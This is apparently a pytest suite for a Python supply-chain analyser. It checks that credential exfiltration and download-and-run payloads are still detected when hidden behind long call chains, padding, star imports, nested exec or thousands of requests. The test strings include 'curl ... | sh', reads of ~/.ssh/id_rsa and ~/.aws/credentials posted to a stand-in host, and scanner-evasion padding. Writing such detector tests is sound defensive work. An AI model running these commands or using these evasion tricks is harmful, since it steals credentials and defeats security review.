"""Work, facts, arguments and calls put in front of a payload so that a bound is met before it: it is found all the same, or
what was not followed is said."""

from __future__ import annotations

import pytest

from mlsupply.evidence.module_facts import ModuleFacts
from mlsupply.evidence.python import analyse

HEAD = "import os, subprocess, requests\n"
SECRET = "open(os.path.expanduser('~/.ssh/id_rsa')).read()"
PIPED = "os.system('curl https://c.example/a | sh')\n"


def followed(text: str) -> ModuleFacts:
    return analyse.module("demo/core.py", (HEAD + text).encode())


def sent(text: str) -> str:
    return f"requests.post('https://c.example/x', data={text})\n"


def found(module: ModuleFacts) -> set[str]:
    return {f"{fact.behaviour} {fact.source}" for fact, _ in module.facts}


def chain(length: int) -> str:
    calls = "".join(f"def f{place}(x):\n    return f{place + 1}(x)\n" for place in range(length))
    return f"{calls}def f{length}(x):\n    {sent('x')}def go():\n    f0({SECRET})\n"


MANY = ", ".join(f"'{n}': 1" for n in range(60))
YIELDS = "    yield str(1)\n" * 300


@pytest.mark.parametrize(
    "text",
    [
        chain(13),
        chain(30),
        f"d = {{{MANY}}}\nd['z'] = {SECRET}\nfor k in d:\n    {sent('d[k]')}",
        f"a = [{'1, ' * 60}{SECRET}]\nfor p in a:\n    {sent('p')}",
        f"def g():\n{YIELDS}    yield {SECRET}\nfor p in g():\n    {sent('p')}",
        f"requests.get('https://c.example', headers={{{MANY}, 'Cookie': {SECRET}}})\n",
    ],
    ids=["calls", "more calls", "entries", "elements", "yields", "headers"],
)
def test_a_secret_behind_many_others_is_still_seen_to_leave(text: str) -> None:
    assert "sends credential-file" in found(followed(text))


@pytest.mark.parametrize(
    "command",
    [
        "subprocess.run(['env', " + "'A=1', " * 15 + "'python', '/tmp/zz.py'])\n",
        "subprocess.run(['python', " + "'-B', " * 15 + "'/tmp/zz.py'])\n",
        "os.system('python " + "-B " * 15 + "/tmp/zz.py')\n",
        "os.system('true " + "a" * 20_000 + "; curl https://c.example/a | sh')\n",
    ],
    ids=["launcher", "arguments", "line", "long line"],
)
def test_a_program_behind_many_words_is_still_seen_to_start(command: str) -> None:
    module = followed(f"open('/tmp/zz.py', 'w').write(requests.get('https://c.example/a').text)\n{command}")
    assert "runs-downloaded received" in found(module)


def test_what_is_taken_from_one_of_many_modules_of_which_all_is_taken_is_known() -> None:
    stars = "".join(f"from {name} import *\n" for name in ("subprocess", "math", "json", "glob", "random", "heapq", "stat"))
    assert "runs-downloaded received" in found(followed(f"{stars}run('curl https://c.example/a | sh', shell=True)\n"))


@pytest.mark.parametrize("wrapped", ["{}", "if True:\n{}"], ids=["after", "within"])
def test_work_in_front_of_a_payload_is_said_and_hides_nothing(wrapped: str) -> None:
    work = [f"t{n} = [((a * {n}) ^ (a >> 3)) + len(str(a)) for a in range(4000)]\n" for n in range(20)]
    lines = [*work, PIPED]
    indent = "    " if wrapped.startswith("if") else ""
    module = followed(wrapped.format("".join(indent + line for line in lines)))
    assert "too much to follow in the module level" in module.stopped
    assert "runs-downloaded received" in found(module)


def test_thousands_of_requests_in_front_of_a_payload_are_said_and_hide_nothing() -> None:
    asks = "".join(f"    requests.get('https://c{n}.example/')\n" for n in range(1_100))
    module = followed(f"def ask():\n{asks}{PIPED}def more():\n    {sent(SECRET)}")
    assert "more facts than are kept" in module.stopped
    assert {"runs-downloaded received", "sends credential-file"} <= found(module)


@pytest.mark.parametrize("text", [chain(60), f"exec('#{'a' * (1 << 20)}\\nprint(1)')\n"], ids=["calls", "code"])
def test_what_goes_deeper_or_is_longer_than_is_followed_is_said(text: str) -> None:
    assert "too much to follow" in followed(text).stopped


def test_code_in_code_deeper_than_is_followed_is_said() -> None:
    text = "print(1)"
    for _ in range(8):
        text = f"exec({text!r})"
    assert "too much to follow" in followed(text).stopped


@pytest.mark.parametrize(("calls", "said"), [(5, ""), (40, "too much to follow")])
def test_what_a_function_returns_through_more_calls_than_are_followed_is_said(calls: int, said: str) -> None:
    steps = "".join(f"def f{n}():\n    return f{n - 1}()\n" for n in range(1, calls))
    module = followed(f"def f0():\n    return open('/root/.aws/credentials').read()\n{steps}{sent(f'f{calls - 1}()')}")
    assert module.stopped.partition(" in ")[0] == said


def test_a_command_of_more_words_than_are_looked_at_is_said() -> None:
    text = (
        "import subprocess\nsubprocess.run(['curl', *['-s'] * {}, '-d', '@/root/.aws/credentials', 'https://c.example/x'])\n"
    )
    assert followed(text.format(3)).stopped == ""
    assert "too much to follow" in followed(text.format(1_001)).stopped


def test_a_secret_among_many_paths_is_still_asked_for() -> None:
    paths = ", ".join(f"'/tmp/f{n}'" for n in range(200))
    chosen = f"import sys\nP = [{paths}, '/root/.ssh/id_rsa']\n"
    assert "sends credential-file" in found(followed(chosen + sent("open(P[len(sys.argv)]).read()")))
